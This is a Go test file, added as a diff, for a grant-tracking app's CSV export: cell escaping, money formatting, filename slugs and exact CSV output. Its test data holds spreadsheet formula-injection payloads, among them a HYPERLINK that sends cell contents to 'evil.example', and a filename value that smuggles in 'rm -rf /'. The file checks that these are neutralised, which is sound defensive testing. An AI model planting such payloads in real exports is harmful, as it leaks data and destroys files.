@@ -1,0 +1,210 @@
+package export_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/fundtrack/fundtrack/shared/domain"
+	"github.com/fundtrack/fundtrack/shared/export"
+)
+
+func TestText(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"", ""},
+		{"IPS in Bradford", "IPS in Bradford"},
+		{"=1+1", "'=1+1"},
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{"+44 20 7946 0000", "'+44 20 7946 0000"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"a=1", "a=1"},           // only the first character matters
+		{"'quoted", "'quoted"},   // already text
+		{"£310,000", "£310,000"}, // non-ASCII first byte is fine
+		{" =1", " =1"},
+	} {
+		if got := export.Text(tc.in); got != tc.want {
+			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestPounds(t *testing.T) {
+	for _, tc := range []struct {
+		pence int64
+		want  string
+	}{
+		{0, "0.00"},
+		{1, "0.01"},
+		{10, "0.10"},
+		{99, "0.99"},
+		{100, "1.00"},
+		{31_000_000, "310000.00"},
+		{12_345_678, "123456.78"},
+		{domain.MaxAmountPence, "100000000000.00"},
+		{-150, "-1.50"},
+	} {
+		if got := export.Pounds(tc.pence); got != tc.want {
+			t.Errorf("Pounds(%d) = %q, want %q", tc.pence, got, tc.want)
+		}
+	}
+}
+
+func TestAmount(t *testing.T) {
+	for _, tc := range []struct {
+		pence int64
+		want  string
+	}{
+		{31_000_000, "310000"},
+		{123_450, "1234.5"},
+		{123_456, "1234.56"},
+		{5, "0.05"},
+		{0, "0"},
+	} {
+		if got := string(export.Amount(tc.pence)); got != tc.want {
+			t.Errorf("Amount(%d) = %q, want %q", tc.pence, got, tc.want)
+		}
+	}
+}
+
+func TestSlug(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"Working for Wellness", "working-for-wellness"},
+		{"  IPS -- Bradford & Airedale (2025) ", "ips-bradford-airedale-2025"},
+		{"Café Réseau", "caf-r-seau"},
+		{"££££", "programme"},
+		{"", "programme"},
+		{`"; rm -rf / ".csv`, "rm-rf-csv"},
+		{strings.Repeat("abcde ", 30), strings.TrimRight(strings.Repeat("abcde-", 10), "-")},
+	} {
+		got := export.Slug(tc.in)
+		if got != tc.want {
+			t.Errorf("Slug(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+		if len(got) > 60 || strings.Trim(got, "abcdefghijklmnopqrstuvwxyz0123456789-") != "" {
+			t.Errorf("Slug(%q) = %q is not a short ASCII slug", tc.in, got)
+		}
+	}
+}
+
+func TestWriteCSVQuotesAndLineEnds(t *testing.T) {
+	var buf bytes.Buffer
+	err := export.WriteCSV(&buf, []string{"A", "B"}, [][]string{{`say "hi", then`, "two\nlines"}, {"", "x"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "\ufeffA,B\r\n\"say \"\"hi\"\", then\",\"two\r\nlines\"\r\n,x\r\n"
+	if got := buf.String(); got != want {
+		t.Fatalf("CSV:\n got %q\nwant %q", got, want)
+	}
+}
+
+// fixtureSet is a small programme: two funders (one without an org-id), two
+// projects and three grants, one of them to the whole programme and one
+// with a title that tries formula injection.
+func fixtureSet() export.GrantSet {
+	at := time.Date(2025, 3, 4, 10, 20, 30, 123_000_000, time.UTC)
+	return export.GrantSet{
+		Programme: domain.Programme{ID: "01jprog0000000000000000000", Name: "Working for Wellness",
+			LeadOrganisation: "Leicestershire Partnership NHS Trust"},
+		Funders: []domain.Funder{
+			{ID: "01jfunderx0000000000000000", Name: "Department of Health", OrgID: "GB-GOR-D12"},
+			{ID: "01jfundery0000000000000000", Name: "Local Trust, Bradford"},
+		},
+		Projects: []domain.Project{
+			{ID: "01jprojecta000000000000000", Name: "IPS Bradford", LeadOrganisation: "Bradford District Care NHS FT"},
+			{ID: "01jprojectb000000000000000", Name: "Aspiro", LeadOrganisation: "Aspiro CIC"},
+		},
+		Grants: []domain.Grant{
+			{ID: "01jgrant100000000000000000", FunderID: "01jfunderx0000000000000000", ProjectID: "01jprojecta000000000000000",
+				Title: "Employment specialists", Description: "Two IPS employment specialists", AmountPence: 31_000_000,
+				Currency: "GBP", AwardDate: domain.MustDate("2025-01-15"), StartDate: domain.MustDate("2025-02-01"),
+				EndDate: domain.MustDate("2026-01-31"), Version: 1, CreatedAt: at, UpdatedAt: at},
+			{ID: "01jgrant200000000000000000", FunderID: "01jfundery0000000000000000", ProjectID: "01jprojectb000000000000000",
+				Title: `=HYPERLINK("http://evil.example","£ click")`, AmountPence: 1_234_505, Currency: "GBP",
+				AwardDate: domain.MustDate("2025-02-28"), StartDate: domain.MustDate("2025-03-01"),
+				EndDate: domain.MustDate("2025-12-31"), Version: 2, CreatedAt: at, UpdatedAt: at.Add(time.Hour)},
+			{ID: "01jgrant300000000000000000", FunderID: "01jfunderx0000000000000000",
+				Title: "Network co-ordination", Description: "Programme-wide", AmountPence: 30_000_000, Currency: "GBP",
+				AwardDate: domain.MustDate("2025-01-15"), StartDate: domain.MustDate("2025-01-01"),
+				EndDate: domain.MustDate("2027-12-31"), Version: 1, CreatedAt: at, UpdatedAt: at},
+		},
+	}
+}
+
+func TestGrantsCSVExact(t *testing.T) {
+	var buf bytes.Buffer
+	if err := export.GrantsCSV(&buf, fixtureSet()); err != nil {
+		t.Fatal(err)
+	}
+	want := "\ufeff" +
+		"Grant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n" +
+		"01jgrant100000000000000000,Employment specialists,Department of Health,GB-GOR-D12,IPS Bradford,310000.00,GBP,2025-01-15,2025-02-01,2026-01-31\r\n" +
+		`01jgrant200000000000000000,"'=HYPERLINK(""http://evil.example"",""£ click"")","Local Trust, Bradford",,Aspiro,12345.05,GBP,2025-02-28,2025-03-01,2025-12-31` + "\r\n" +
+		"01jgrant300000000000000000,Network co-ordination,Department of Health,GB-GOR-D12,Whole programme,300000.00,GBP,2025-01-15,2025-01-01,2027-12-31\r\n"
+	if got := buf.String(); got != want {
+		t.Fatalf("grants CSV:\n got %q\nwant %q", got, want)
+	}
+	// And a CSV reader sees the cells the spreadsheet will.
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 4 || rows[2][1] != `'=HYPERLINK("http://evil.example","£ click")` || rows[2][5] != "12345.05" {
+		t.Fatalf("parsed rows: %q", rows)
+	}
+}
+
+func TestGrantsCSVEmpty(t *testing.T) {
+	var buf bytes.Buffer
+	if err := export.GrantsCSV(&buf, export.GrantSet{}); err != nil {
+		t.Fatal(err)
+	}
+	want := "\ufeffGrant ID,Title,Funder,Funder org-id,Recipient project,Amount (£),Currency,Award date,Start date,End date\r\n"
+	if buf.String() != want {
+		t.Fatalf("empty grants CSV: %q", buf.String())
+	}
+}
+
+func TestOutcomeSummaryCSVExact(t *testing.T) {
+	set := fixtureSet()
+	tot := domain.NewTotals()
+	a, b := set.Projects[0].ID, set.Projects[1].ID
+	tot.ByProject[a] = map[domain.Metric]int64{domain.MetricReferrals: 12, domain.MetricPeopleIntoWork: 7, domain.MetricJobStarts: 8, domain.MetricSustainedJobs13Weeks: 1}
+	tot.ByProject[b] = map[domain.Metric]int64{domain.MetricReferrals: 13, domain.MetricPeopleIntoWork: 1, domain.MetricInternsEnrolled: 4, domain.MetricInternsCompleted: 0}
+	// Programme totals are the true sums; they are controlled themselves,
+	// not added up from the controlled rows (10 + 15 would say 25).
+	tot.Programme = map[domain.Metric]int64{domain.MetricReferrals: 25, domain.MetricPeopleIntoWork: 8, domain.MetricJobStarts: 8,
+		domain.MetricSustainedJobs13Weeks: 1, domain.MetricInternsEnrolled: 4}
+	// A third project, named to try formula injection, with nothing yet.
+	projects := append(set.Projects, domain.Project{ID: "01jprojectc000000000000000", Name: "-Newcomers"})
+	var buf bytes.Buffer
+	if err := export.OutcomeSummaryCSV(&buf, export.OutcomeSet{Programme: set.Programme, Projects: projects, Totals: tot}); err != nil {
+		t.Fatal(err)
+	}
+	want := "\ufeff" +
+		"Project,Referrals,People into work,Job starts,Sustained jobs (13 weeks),Volunteering starts,Training starts,Interns enrolled,Interns completed\r\n" +
+		"IPS Bradford,10,*,10,*,0,0,0,0\r\n" +
+		"Aspiro,15,*,0,0,0,0,*,0\r\n" +
+		"'-Newcomers,0,0,0,0,0,0,0,0\r\n" +
+		"Programme total,25,10,10,*,0,0,*,0\r\n"
+	if got := buf.String(); got != want {
+		t.Fatalf("summary CSV:\n got %q\nwant %q", got, want)
+	}
+}
+
+func TestOutcomeSummaryHeaderCoversEveryMetric(t *testing.T) {
+	h := export.OutcomeSummaryHeader()
+	if len(h) != 1+len(domain.Metrics) {
+		t.Fatalf("header %q: want Project and one column per metric (%d)", h, len(domain.Metrics))
+	}
+	for i, m := range domain.Metrics {
+		if export.MetricLabels[m] == "" || h[i+1] != export.MetricLabels[m] {
+			t.Errorf("metric %s has column %q, label %q", m, h[i+1], export.MetricLabels[m])
+		}
+	}
+}
